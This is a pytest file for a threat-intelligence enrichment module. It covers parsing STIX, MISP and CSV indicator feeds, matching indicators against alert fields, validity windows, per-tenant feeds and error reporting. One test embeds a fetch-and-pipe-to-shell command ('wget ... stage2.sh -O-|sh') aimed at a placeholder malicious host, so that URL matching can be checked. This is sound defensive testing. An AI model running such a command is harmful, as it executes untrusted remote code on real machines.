"""Threat intel: STIX 2.1 / MISP / CSV feeds, matching on alert fields, validity windows, tenant vs global."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import pytest

from pipeline.context.feeds import load_feed
from pipeline.context.intel import IntelSet, match
from pipeline.context.loader import ContextFileError
from pipeline.context.store import Context, read_intel, write_intel

from .conftest import T0, alert, data


@pytest.fixture(scope="module")
def feeds() -> list[IntelSet]:
    return [load_feed(data(f))[0] for f in ("stix_bundle.json", "misp_event.json", "iocs.csv")]


def hits(a, sets):
    return {(h.indicator, h.type, h.field, h.source) for h in match(a, sets)}


# ---- formats -----------------------------------------------------------------------------------------------
def test_stix_bundle():
    s, stats = load_feed(data("stix_bundle.json"))
    assert stats.format == "stix" and stats.loaded == len(s) == 8
    assert stats.skipped == {"complex pattern": 1, "pattern_type yara": 1}
    by_value = {i.value: i for i in s.indicators()}
    dom = by_value["malware-lab.test"]
    assert (dom.kind, dom.source, dom.confidence) == ("domain", "Lab CERT", 85)  # identity name resolved
    assert dom.tags == ("c2", "malware-lab", "malicious-activity")
    assert by_value["198.51.100.0/24"].kind == "cidr"
    assert by_value["dl.malware-lab.test/stage2.sh"].kind == "url"
    assert {by_value[h].kind for h in ("44d88612fea8a8f36de82e1278abb02f",
            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")} == {"md5", "sha256"}
    assert by_value["2001:db8:bad::1"].source == "stix_bundle"  # no creator: the feed's name


def test_stix_fixture_is_valid_for_the_stix2_library():
    import stix2

    bundle = stix2.parse(data("stix_bundle.json").read_text(), allow_custom=False)
    assert sum(o.type == "indicator" for o in bundle.objects) == 8


def test_misp_event():
    s, stats = load_feed(data("misp_event.json"))
    assert stats.format == "misp"
    assert stats.skipped == {"to_ids false": 3, "type AS": 1, "deleted": 1}
    by_value = {i.value: i for i in s.indicators()}
    assert set(by_value) == {"203.0.113.77", "192.0.2.44", "192.0.2.45", "shell-drop.example",
                             "cdn.shell-drop.example", "shell-drop.example/uploads/cmd.php?x=1",
                             "9f2a6b8c5d3e1f0a7b4c6d8e2f1a3b5c7d9e0f2a4b6c8d0e1f3a5b7c9d1e2f40"}
    sha = by_value["9f2a6b8c5d3e1f0a7b4c6d8e2f1a3b5c7d9e0f2a4b6c8d0e1f3a5b7c9d1e2f40"]
    assert sha.source == "misp:CIRCL" and sha.confidence == 85  # estimative-language "very-likely"
    assert "tlp:amber" in sha.tags and "malware:webshell" in sha.tags


def test_csv_list():
    s, stats = load_feed(data("iocs.csv"))
    by_value = {i.value: i for i in s.indicators()}
    assert stats.loaded == 7
    assert by_value["evil-cdn.example"].kind == "domain" and by_value["evil-cdn.example"].source == "iocs"
    assert by_value["10.66.0.0/16"].kind == "cidr"
    assert by_value["127.0.0.66"].tags == ("web-attacker", "lab")
    # a bare end date includes the whole day
    assert by_value["203.0.113.5"].valid_until == int(T0.replace(2021, 1, 1, 23, 59, 59, 0).timestamp())


# ---- matching ----------------------------------------------------------------------------------------------
def test_domain_suffix(feeds):
    stix = feeds[:1]
    assert hits(alert(dns={"query": "c2.malware-lab.test"}), stix) == {
        ("malware-lab.test", "domain", "dns.query", "Lab CERT")}
    assert hits(alert(dns={"query": "MALWARE-LAB.TEST."}), stix)
    assert not hits(alert(dns={"query": "notmalware-lab.test"}), stix)
    assert not hits(alert(dns={"query": "malware-lab.test.example.org"}), stix)


def test_the_most_specific_domain_is_reported(feeds):
    got = hits(alert(http={"host": "cdn.shell-drop.example", "url": "/x"}), feeds[1:2])
    assert got == {("cdn.shell-drop.example", "domain", "http.host", "misp:CIRCL")}


def test_ip_cidr_and_fields(feeds):
    a = alert(src={"ip": "198.51.100.23"}, dst={"ip": "10.66.3.4"})
    assert hits(a, feeds) == {("198.51.100.0/24", "cidr", "src.ip", "Lab CERT"),
                              ("10.66.0.0/16", "cidr", "dst.ip", "lab-feed")}
    assert hits(alert("auditd", extra={"saddr_ip": "192.0.2.44", "saddr_port": 4444}), feeds) == {
        ("192.0.2.44", "ip", "extra.saddr_ip", "misp:CIRCL")}


def test_url_with_host_header_port_and_absolute_url(feeds):
    a = alert("modsecurity", dst={"ip": "127.0.0.1"},
              http={"host": "shop.lab.local:80", "url": "/uploads/cmd.php"})
    assert ("shop.lab.local/uploads/cmd.php", "url", "http.url", "lab-feed") in hits(a, feeds)
    b = alert("suricata", http={"host": "shell-drop.example", "url": "/uploads/cmd.php?x=1"})
    assert ("shell-drop.example/uploads/cmd.php?x=1", "url", "http.url", "misp:CIRCL") in hits(b, feeds)
    c = alert("suricata", http={"url": "http://dl.malware-lab.test/stage2.sh"})
    assert hits(c, feeds[:1]) == {("dl.malware-lab.test/stage2.sh", "url", "http.url", "stix_bundle"),
                                  ("malware-lab.test", "domain", "http.url", "Lab CERT")}
    cmd = alert("auditd", process={"cmdline": "sh -c wget -q http://dl.malware-lab.test/stage2.sh -O-|sh"})
    assert ("dl.malware-lab.test/stage2.sh", "url", "process.cmdline", "stix_bundle") in hits(cmd, feeds)


def test_file_hash(feeds):
    a = alert("clamav", file={"path": "/srv/www/uploads/invoice.pdf.com",
                              "hash": "44D88612FEA8A8F36DE82E1278ABB02F"})
    assert hits(a, feeds) == {("44d88612fea8a8f36de82e1278abb02f", "md5", "file.hash", "stix_bundle"),
                              ("44d88612fea8a8f36de82e1278abb02f", "md5", "file.hash", "lab-feed")}


def test_validity_window(feeds):
    stix = feeds[:1]
    old = "192.0.2.99"  # valid 2023-01-01 .. 2023-06-30
    assert not hits(alert(src={"ip": old}), stix)
    assert hits(alert(src={"ip": old}, time=T0.replace(2023, 3, 1)), stix)
    assert not hits(alert(src={"ip": old}, time=T0.replace(2022, 12, 31)), stix)
    future = "2001:db8:bad::1"  # valid from 2031
    assert not hits(alert(src={"ip": future}), stix)
    assert hits(alert(src={"ip": "2001:DB8:BAD:0::1"}, time=T0.replace(2031, 1, 2)), stix)
    csv = feeds[2:]
    assert not hits(alert(dst={"ip": "203.0.113.5"}), csv)  # expired at the alert's time
    assert hits(alert(dst={"ip": "203.0.113.5"}, time=T0.replace(2021, 1, 1, 23, 0)), csv)


def test_expired_cidr_falls_back_to_a_valid_wider_one(tmp_path: Path):
    f = tmp_path / "nets.csv"
    f.write_text("value,type,valid_until\n10.0.0.0/8,cidr,\n10.1.0.0/16,cidr,2020-01-01\n")
    s, _ = load_feed(f)
    assert hits(alert(src={"ip": "10.1.2.3"}), [s]) == {("10.0.0.0/8", "cidr", "src.ip", "nets")}
    assert hits(alert(src={"ip": "10.1.2.3"}, time=T0.replace(2019)), [s]) == {
        ("10.1.0.0/16", "cidr", "src.ip", "nets")}


def test_tenant_and_global_feeds():
    ctx = Context()
    assert ctx.load_intel(data("stix_bundle.json"))  # global
    assert ctx.load_intel(data("iocs.csv"), tenant="shop")
    shop = alert(src={"ip": "127.0.0.66"}, dns={"query": "c2.malware-lab.test"})
    ctx.enrich(shop)
    assert {(h.indicator, h.field) for h in shop.intel} == {
        ("127.0.0.66", "src.ip"), ("c2.malware-lab.test", "dns.query"), ("malware-lab.test", "dns.query")}
    other = alert(tenant="bank", src={"ip": "127.0.0.66"}, dns={"query": "c2.malware-lab.test"})
    ctx.enrich(other)
    assert {(h.indicator, h.source) for h in other.intel} == {("malware-lab.test", "Lab CERT")}


def test_enrich_is_idempotent_and_records_hit_details():
    ctx = Context()
    ctx.load_intel(data("iocs.csv"), tenant="shop")
    a = alert(src={"ip": "127.0.0.66"})
    ctx.enrich(a)
    ctx.enrich(a)
    assert len(a.intel) == 1
    h = a.intel[0]
    assert (h.indicator, h.type, h.field, h.source, h.confidence, h.tags) == (
        "127.0.0.66", "ip", "src.ip", "lab-feed", 90, ["web-attacker", "lab"])


# ---- bad files ---------------------------------------------------------------------------------------------
def _stix(tmp_path: Path, **changes) -> tuple[Path, int]:
    """The fixture bundle with objects[2] changed; and the line of that indicator's id."""
    doc = json.loads(data("stix_bundle.json").read_text())
    doc["objects"][2].update(changes)
    f = tmp_path / "bad_bundle.json"
    f.write_text(json.dumps(doc, indent=2))
    lines = f.read_text().splitlines()
    return f, next(i for i, ln in enumerate(lines, 1) if doc["objects"][2]["id"] in ln)


@pytest.mark.parametrize(("changes", "message"), [
    ({"pattern": "[ipv4-addr:value = '203.0.113.300']"},
     "objects[2].pattern: not an IP or CIDR: '203.0.113.300'"),
    ({"pattern": "[ipv4-addr:value = '1.2.3.4' AND"}, "objects[2].pattern: invalid STIX pattern: FAIL: "),
    ({"confidence": 170}, "objects[2].confidence: not an integer 0-100: 170"),
    ({"valid_until": "2020-01-01T00:00:00Z"}, "objects[2].valid_until: must be later than valid_from"),
    ({"valid_from": "yesterday"}, "objects[2].valid_from: not a timestamp: 'yesterday'"),
    ({"pattern": None}, "objects[2].pattern: missing (required for STIX 2.1 indicators)"),
])
def test_bad_stix(tmp_path: Path, changes, message):
    f, line = _stix(tmp_path, **changes)
    with pytest.raises(ContextFileError) as e:
        load_feed(f)
    assert str(e.value).startswith(f"bad_bundle.json:{line}: {message}")


def test_bad_misp_and_csv(tmp_path: Path):
    doc = json.loads(data("misp_event.json").read_text())
    doc["Event"]["Object"][0]["Attribute"][1]["value"] = "not-a-sha256"
    f = tmp_path / "event.json"
    f.write_text(json.dumps(doc, indent=1))
    with pytest.raises(ContextFileError) as e:
        load_feed(f)
    line = next(i for i, ln in enumerate(f.read_text().splitlines(), 1) if "a1b2c3d4-0102" in ln)
    assert str(e.value).startswith(f"event.json:{line}: Event.Object[0].Attribute[1].value: not an MD5/SHA-1")

    c = tmp_path / "iocs.csv"
    c.write_text("value,type,confidence,valid_from\n1.2.3.4,ip,50,\nexample.org,domian,50,\n"
                 "example.net,domain,high,\nexample.com,domain,50,last week\n")
    with pytest.raises(ContextFileError) as e:
        load_feed(c)
    assert str(e.value).splitlines() == [
        "iocs.csv:3: type: unknown type 'domian' (known: cidr, domain, domain-name, file-hash, fqdn, hash, "
        "hostname, ip, ip-dst, ip-src, ipv4, ipv4-addr, ipv6, ipv6-addr, md5, sha1, sha256, sha512, uri, "
        "url)",
        "iocs.csv:4: confidence: not an integer 0-100: 'high'",
        "iocs.csv:5: valid_from: not a timestamp: 'last week'",
    ]
    j = tmp_path / "broken.json"
    j.write_text('{"type": "bundle",\n "objects": [\n  {"type": "indicator",}\n ]}\n')
    with pytest.raises(ContextFileError, match=r"^broken.json:3: not valid JSON"):
        load_feed(j)


def test_bad_feed_keeps_last_good_set(tmp_path: Path):
    ctx = Context()
    good = tmp_path / "feed.csv"
    good.write_text("value,type\n127.0.0.66,ip\n")
    assert ctx.load_intel(good, tenant="shop")
    good.write_text("value,type\n127.0.0.666,ip\n")
    assert ctx.load_intel(good, tenant="shop") is None
    assert ctx.errors == ["feed.csv:2: value: not an IP or CIDR: '127.0.0.666'"]
    a = alert(src={"ip": "127.0.0.66"})
    ctx.enrich(a)
    assert [h.indicator for h in a.intel] == ["127.0.0.66"]


def test_persisted_set_round_trip(tmp_path: Path, feeds):
    for s in feeds:
        write_intel(tmp_path / f"{s.name}.msgpack", s)
        back = read_intel(tmp_path / f"{s.name}.msgpack")
        assert back.name == s.name and len(back) == len(s)
        assert sorted(map(repr, back.indicators())) == sorted(map(repr, s.indicators()))
    a = alert(src={"ip": "198.51.100.9"}, time=T0 + timedelta(days=1))
    assert hits(a, [read_intel(tmp_path / "stix_bundle.msgpack")]) == hits(a, feeds[:1])
